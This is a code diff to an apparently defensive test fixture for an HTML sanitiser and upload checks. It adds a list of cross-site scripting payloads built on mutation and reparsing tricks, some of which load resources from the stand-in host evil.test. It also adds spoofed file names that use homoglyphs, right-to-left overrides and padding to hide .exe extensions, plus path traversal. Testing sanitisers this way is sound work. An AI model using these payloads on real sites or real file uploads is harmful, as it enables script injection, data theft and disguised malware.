@@ -90,6 +90,45 @@ const clobbering = [
   `<slot name=x></slot><cabinet-ticket-file></cabinet-ticket-file><cabinet-provider backend-url="//evil.test"></cabinet-provider>`,
 ];
 
+/** What sanitisers have tripped over since: integration points, depth, comments and raw text that a second parser reads anew. */
+const reparsed = [
+  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
+  `<math><annotation-xml><foreignObject><style><!--</style><img src=x onerror=${run}>-->`,
+  `<svg><annotation-xml><foreignObject><style><!--</style><p id="--><img src=x onerror=${run}>">`,
+  `<math><mtext><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${run}>">`,
+  `<math><mtext><malignmark><style><!--</style><img src=x onerror=${run}>-->`,
+  `<svg><desc><noscript><img title="</noscript><img src=x onerror=${run}>"></desc></svg>`,
+  `<svg><title><style><!--</title><img src=x onerror=${run}>--></style></title></svg>`,
+  `<form><div></form><form id=x></div><math><style></form><img src=x onerror=${run}>`,
+  `<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=${run}>">`,
+  `${'<div>'.repeat(600)}<svg><style><a id="</style><img src=x onerror=${run}>">`,
+  `<option><style></option></select><b><img src=x onerror=${run}></style></option>`,
+  `<select><template><style><!--</template><a rel="--></style></select><img src=x onerror=${run}>">`,
+  `<selectedcontent><img src=x onerror=${run}></selectedcontent>`,
+  `<plaintext></plaintext><img src=x onerror=${run}>`,
+  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
+  `<noframes><p title="</noframes><img src=x onerror=${run}>">`,
+  `<a title="&lt;/a&gt;&lt;img src=x onerror=${run}&gt;">x</a>`,
+  `<p id="&amp;lt;img src=x onerror=${run}&amp;gt;">&amp;lt;img src=x onerror=${run}&amp;gt;</p>`,
+  `<?pi ><img src=x onerror=${run}>?>`,
+  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${run}>">]><x>&y;</x>`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<iframe srcdoc="&lt;img src=x onerror=parent.${run}&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
+  `<div is="x-script" slot=body part=base exportparts=base><b onclick=${run} popovertarget=x>x</b></div>`,
+  `<button command=show-modal commandfor=x formaction="javascript:${run}">x</button><dialog id=x oncancel=${run}></dialog>`,
+  `<input type=hidden popover id=x onbeforetoggle=${run}><button popovertarget=x>x</button>`,
+  `<div contenteditable autofocus tabindex=1 onfocus=${run} accesskey=x onblur=${run}>x</div>`,
+  `<p style="animation:x 1s" onanimationstart=${run}>x</p><style>@keyframes x{}</style>`,
+  `<p style="background:\\75rl(javascript:${run});behavior:url(x);-moz-binding:url(//evil.test/q)">x</p>`,
+  `<style>@font-face{font-family:x;src:url(//evil.test/r)}*{font-family:x}[href^="a"]{background:url(//evil.test/s)}</style>`,
+  `<style><!--</style><script>${run}</script>--></style>`,
+  `<svg><image href="//evil.test/t" /><feImage href="//evil.test/u" /><style>@import "//evil.test/v";</style></svg>`,
+  `<svg><a><animate attributeName=href values="javascript:${run}" /><text x=9 y=9>x</text></a></svg>`,
+  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${run}</handler></svg>`,
+  `<math href="javascript:${run}"><maction actiontype="statusline#//evil.test" xlink:href="javascript:${run}">x</maction></math>`,
+  `<xss id=x tabindex=1 onfocus=${run}></xss><a href="#x">x</a>`,
+];
+
 const others = [
   `<script>${run}</script>`,
   `"><script>${run}</script>`,
@@ -108,9 +147,27 @@ const others = [
   '__proto__',
   'constructor',
   '{author} {text} {count}',
+  // What looks like another word, is stacked high, or hides what it ends in.
+  'p\u0430yp\u0430l-inv\u043eice.pdf',
+  '\uff49nvoice.\uff50df.exe',
+  'invoice\u202efdp.exe',
+  'invoice.pdf\u2067.exe\u2069',
+  'invoice.pdf' + ' '.repeat(60) + '.exe',
+  'invoice.pdf\u3164\u2800.exe',
+  'Z\u0351\u036b\u0343\u036a\u0302a\u0360\u0334l\u0328\u035cg\u031b\u0353o\u0489\u031d.png',
+  '../../..\\\\evil\u2044test\u2215x.png',
+  'CON.png',
+  '\u{e0069}\u{e006e}\u{e0076}.pdf',
 ];
 
-export const payloads: readonly string[] = [...handlers, ...addresses, ...mutations, ...clobbering, ...others];
+export const payloads: readonly string[] = [
+  ...handlers,
+  ...addresses,
+  ...mutations,
+  ...reparsed,
+  ...clobbering,
+  ...others,
+];
 
 /** Characters that turn, hide or stack others. */
 export const formatCharacters: readonly string[] = [
